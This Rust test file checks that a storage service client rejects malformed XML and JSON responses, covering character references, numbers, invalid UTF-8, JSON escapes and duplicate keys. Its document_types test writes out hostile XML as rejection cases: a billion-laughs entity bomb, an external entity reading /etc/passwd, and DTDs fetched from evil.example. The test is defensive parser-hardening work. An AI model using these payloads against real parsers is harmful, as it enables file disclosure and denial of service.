//! Texts that no honest service answers, in each format. What is no message of the format is the peer's flaw; what is one
//! carries what the peer said, however odd (N168).

use larder_proto_nvx::Code;
use larder_proto_nvx::imfs::FolderPage;

use super::client::{files, json, page, said, users, xml};

const MALFORMED: &str = "Malformed";

fn entry(name: &str) -> String {
    page(&format!("<File><Name>{name}</Name></File>"))
}

/// The name of the first file of an answer, or what is wrong with the answer.
fn name<F: core::fmt::Debug>(listed: Result<FolderPage, larder_core::ErrorKind<F>>) -> Result<String, String> {
    match listed {
        Ok(page) => Ok(page.files[0].name.clone()),
        Err(_) => Err(said(&listed)),
    }
}

#[test]
fn character_references() {
    for (text, means) in [
        ("&#x41;&#66;&#10;&lt;&amp;&gt;&quot;&apos;", "AB\n<&>\"'"),
        ("a<!-- c --><?pi x?>", "a"),
        ("<![CDATA[<x>&#0;]]>", "<x>&#0;"),
        ("&#xFEFF;\u{FEFF}", "\u{FEFF}\u{FEFF}"),
        // No characters, and not well-formed; the parser takes them so.
        ("&#xD800;", "\u{FFFD}"),
        ("&#x110000;", "\u{FFFD}"),
    ] {
        assert_eq!(name(xml(entry(text))), Ok(means.to_owned()), "{text}");
    }
    for text in [
        "&#0;",
        "&#x0;",
        "&#1;",
        "&#xB;",
        "&#xFFFE;",
        "&#xFFFF;",
        "&#99999999999999999999;",
        "&#-1;",
        "&#x;",
        "&#;",
        "&#x41",
        "&nbsp;",
        "&a;",
        "&",
        "&;",
        "a<b",
        "]]>",
        "\0",
        "\u{1}",
        "\u{B}",
        "\u{FFFE}",
        "\u{FFFF}",
    ] {
        assert_eq!(name(xml(entry(text))), Err(MALFORMED.to_owned()), "{text}");
    }
}

/// Entities need a document type, and there is none.
#[test]
fn document_types() {
    let billion: String = (1..10).map(|at| format!("<!ENTITY l{at} '{}'>", format!("&l{};", at - 1).repeat(10))).collect();
    for doctype in [
        "<!DOCTYPE Response>",
        "<!doctype html>",
        &format!("<!DOCTYPE Response [<!ENTITY l0 'lol'>{billion}]>"),
        &format!("<!DOCTYPE Response [<!ENTITY l9 '{}'>]>", "a".repeat(100_000)),
        "<!DOCTYPE Response [<!ENTITY l9 SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE Response [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>",
        "<!DOCTYPE Response SYSTEM 'http://evil.example/x.dtd'>",
        "<!DOCTYPE Response PUBLIC '-//X//Y' 'http://evil.example/x.dtd'>",
        "<!ENTITY l9 'a'>",
        "<?xml version='1.0'?>\n<!-- c -->\n<!DOCTYPE Response>",
    ] {
        for inside in ["&l9;", "a"] {
            assert_eq!(name(xml(format!("{doctype}{}", entry(inside)))), Err(MALFORMED.to_owned()), "{doctype}");
        }
    }
    assert_eq!(said(&xml(page("<!DOCTYPE Response>"))), MALFORMED);
    assert_eq!(said(&xml(page("") + "<!DOCTYPE Response>")), MALFORMED);
}

#[test]
fn documents() {
    let whole = |before: &str, after: &str| name(xml(format!("{before}{}{after}", entry("a"))));
    for before in [
        "<?xml version='1.0'?>",
        "\u{FEFF}<?xml version='1.0' encoding='utf-8'?>",
        "\u{FEFF}\u{FEFF}",
        "\r\n\t <?xml version='1.0'?>",
        "<!-- <!DOCTYPE a> -->",
        // The bytes are UTF-8 whatever is said of them.
        "<?xml version='1.0' encoding='utf-16'?>",
        "<?xml version='1.1'?>",
    ] {
        assert_eq!(whole(before, ""), Ok("a".to_owned()), "{before}");
    }
    for (before, after) in
        [("x", ""), ("\0", ""), ("", "x"), ("", "\0"), ("", "<x/>"), ("<x>", ""), ("", "</Response>"), ("<x/>", "")]
    {
        assert_eq!(whole(before, after), Err(MALFORMED.to_owned()), "{before} {after}");
    }
    let answer = |open: &str, close: &str| said(&xml(entry("a").replace("<Response>", open).replace("</Response>", close)));
    assert_eq!(answer("<Response a='1' b='2'>", "</Response>"), "Ok");
    assert_eq!(answer("<Response a='1' a='2'>", "</Response>"), MALFORMED);
    assert_eq!(answer("<Response a=1>", "</Response>"), MALFORMED);
    assert_eq!(answer("<Response a='<'>", "</Response>"), MALFORMED);
    assert_eq!(answer("<Response xmlns='urn:any'>", "</Response>"), "Ok");
    assert_eq!(answer("<x:Response>", "</x:Response>"), MALFORMED);
    assert_eq!(answer("<x><Response>", "</Response></x>"), "Missing Response");
}

#[test]
fn numbers() {
    let size = |xml_text: &str, json_text: &str| {
        let xml = xml(page(&format!("<File><Name>a</Name><SizeBytes>{xml_text}</SizeBytes></File>")));
        [said(&xml), said(&json(files(&format!(r#""Name":"a","SizeBytes":{json_text}"#))))]
    };
    for number in ["0", "18446744073709551615", " 1 "] {
        assert_eq!(size(number, number), ["Ok", "Ok"], "{number}");
    }
    for number in ["18446744073709551616", "-1", "-99999999999999999999"] {
        assert_eq!(size(number, number), ["OutOfRange SizeBytes", MALFORMED], "{number}");
    }
    for number in ["1e400", "-1e400", "1.5", "1e0", "NaN", "Infinity", "INF", "0x1", "+1", "1_0", "\u{FF11}", "1 0", "true"] {
        assert_eq!(size(number, number), ["Malformed SizeBytes", MALFORMED], "{number}");
    }
    assert_eq!(size("", ""), ["Missing SizeBytes", MALFORMED]);
    assert_eq!(size("1", "\"1\""), ["Ok", MALFORMED], "a number in quotes is a text");

    let code = |code: &str| {
        let xml = xml(format!("<Response><ResponseCode>{code}</ResponseCode></Response>"));
        [said(&xml), said(&json(format!(r#"{{"ResponseCode":{code}}}"#)))]
    };
    assert_eq!(code("0"), ["Missing ListFolder", "Missing ListFolder"]);
    assert_eq!(code("4294967296"), ["OutOfRange ResponseCode", "OutOfRange"]);
    for number in ["-1", "18446744073709551616"] {
        assert_eq!(code(number), ["OutOfRange ResponseCode", MALFORMED], "{number}");
    }
    for number in ["1e400", "0.0", "NaN", "x", "true"] {
        assert_eq!(code(number), ["Malformed ResponseCode", MALFORMED], "{number}");
    }
}

#[test]
fn numbers_of_the_reseller() {
    let used = |number: &str| said(&users(200, format!(r#"[{{"email":"a","storage_used":{number}}}]"#)));
    for number in ["0", "1.5", "18446744073709551615", "null", "\"7\""] {
        assert_eq!(used(number), "Ok", "{number}");
    }
    for number in ["18446744073709551616", "-1", "1e30"] {
        assert_eq!(used(number), "OutOfRange storage_used", "{number}");
    }
    for number in ["1e400", "NaN", "01"] {
        assert_eq!(used(number), MALFORMED, "{number}");
    }
    for number in ["true", "{}", "[1]", "\"\"", "\"NaN\"", "\"0x1\""] {
        assert_eq!(used(number), "Malformed storage_used", "{number}");
    }
    let unknown = |value: &str| said(&users(200, format!(r#"[{{"email":"a","x":{value}}}]"#)));
    for value in ["1e400", "99999999999999999999999"] {
        assert_eq!(unknown(value), "Ok", "{value} is passed over");
    }
    for value in ["NaN", "Infinity", "01", "+1", "0x1", ".5", "1."] {
        assert_eq!(unknown(value), MALFORMED, "{value} is no JSON");
    }
}

/// Bytes that are no UTF-8: nothing of an answer is replaced or guessed.
#[test]
fn bytes() {
    let with = |text: &str, bytes: &[u8]| text.as_bytes().split(|byte| *byte == b'@').collect::<Vec<_>>().join(bytes);
    for bytes in [
        &b"\xFF"[..],
        b"\xC3\x28",
        b"\xC0\xAF",
        b"\xE0\x80\xAF",
        b"\xF0\x80\x80\xAF",
        b"\xED\xA0\x80",
        b"\xF4\x90\x80\x80",
        b"\xC3",
    ] {
        for text in [entry("@"), page("<!--@-->"), page("<a b='@'/>"), page("<x@/>")] {
            assert_eq!(said(&xml(with(&text, bytes))), MALFORMED, "{text} {bytes:?}");
        }
        for text in [files(r#""Name":"@""#), files(r#""x":"@""#), files(r#""@":0"#), files("") + "@"] {
            assert_eq!(said(&json(with(&text, bytes))), MALFORMED, "{text} {bytes:?}");
        }
        assert!(said(&users(200, with(r#"[{"email":"@"}]"#, bytes))).starts_with(MALFORMED), "{bytes:?}");
        assert_eq!(said(&users(200, with(r#"[{"email":"a","x":"@"}]"#, bytes))), "Ok", "passed over");
    }
}

#[test]
fn escapes_of_json() {
    let both = |text: &str| {
        let name = name(json(files(&format!(r#""Name":"{text}""#))));
        assert_eq!(name.is_ok(), users(200, format!(r#"[{{"email":"{text}"}}]"#)).is_ok(), "{text}");
        name
    };
    for (text, means) in
        [(r"\u0000", "\0"), (r"\ud83d\ude00", "\u{1F600}"), (r"\ufffe\ufeff", "\u{FFFE}\u{FEFF}"), (r"\/\b", "/\u{8}")]
    {
        assert_eq!(both(text), Ok(means.to_owned()), "{text}");
    }
    for text in [
        r"\ud800",
        r"\udc00",
        r"\udc00\ud800",
        r"\ud800\u0041",
        r"\ud800\ud800",
        r"\x41",
        r"\u12",
        r"\u{41}",
        r"\0",
        "\0",
        "\u{1}",
        "\n",
    ] {
        assert_eq!(both(text), Err(MALFORMED.to_owned()), "{text}");
    }
}

/// What stands twice: of codes the first counts; in JSON nothing else may, in XML the first counts.
#[test]
fn duplicates() {
    let twice = |first: u32, second: u32| {
        let xml = xml(format!(
            "<Response><ResponseCode>{first}</ResponseCode><ResponseCode>{second}</ResponseCode><ListFolder/></Response>"
        ));
        let early = json(format!(r#"{{"ResponseCode":{first},"ResponseCode":{second},"ListFolder":{{}}}}"#));
        let late = json(format!(r#"{{"ListFolder":{{}},"ResponseCode":{first},"responsecode":{second}}}"#));
        [xml, early, late].map(|outcome| match outcome {
            Ok(_) => 0,
            Err(larder_core::ErrorKind::Fault(fault)) => fault.code.number(),
            Err(_) => unreachable!("neither"),
        })
    };
    let gone = Code::InvalidPath.number();
    assert_eq!(twice(0, gone), [0, 0, 0]);
    assert_eq!(twice(gone, 0), [gone, gone, gone]);
    assert_eq!(name(xml(page("<File><Name>a</Name><Name>b</Name></File>"))), Ok("a".to_owned()));
    assert_eq!(said(&json(files(r#""Name":"a","Name":"b""#))), MALFORMED);
    assert_eq!(said(&json(files(r#""Name":"a","\u004eame":"a""#))), MALFORMED);
    assert_eq!(said(&json(r#"{"ResponseCode":0,"ListFolder":{},"ListFolder":{}}"#)), MALFORMED);
    assert_eq!(said(&users(200, r#"[{"email":"a","email":"a"}]"#)), "TooMany email");
    assert_eq!(said(&json(files(r#""Name":"a","x":1,"x":2"#))), "Ok");
    assert_eq!(said(&users(200, r#"[{"email":"a","x":1,"x":2}]"#)), "Ok");
}

#[test]
fn texts_of_json() {
    let whole = files(r#""Name":"a""#);
    for (before, after) in [("", ""), ("\u{FEFF}", ""), (" \r\n", "\t\n"), ("/**/a.b(", ");"), ("a(", ")")] {
        assert_eq!(said(&json(format!("{before}{whole}{after}"))), "Ok", "{before}");
    }
    for (before, after) in
        [("", "\0"), ("\0", ""), ("", "{}"), ("", ","), ("alert(1)(", ");"), ("a(", ")//"), ("//\n", ""), ("[", "]")]
    {
        assert_eq!(said(&json(format!("{before}{whole}{after}"))), MALFORMED, "{before} {after}");
    }
    for text in ["", "null", "NaN", "0", "\"a\"", "[]", "{", "{\"ResponseCode\"", "{'ResponseCode':0}", "{\"ResponseCode\":0,}"] {
        assert_eq!(said(&json(text)), MALFORMED, "{text}");
    }
    for text in ["", "null", "NaN", "0", "\u{FEFF}[]", "[]\0", "[][]", "[,]", "[", "//\n[]"] {
        assert_eq!(said(&users(200, text)), MALFORMED, "{text}");
    }
}
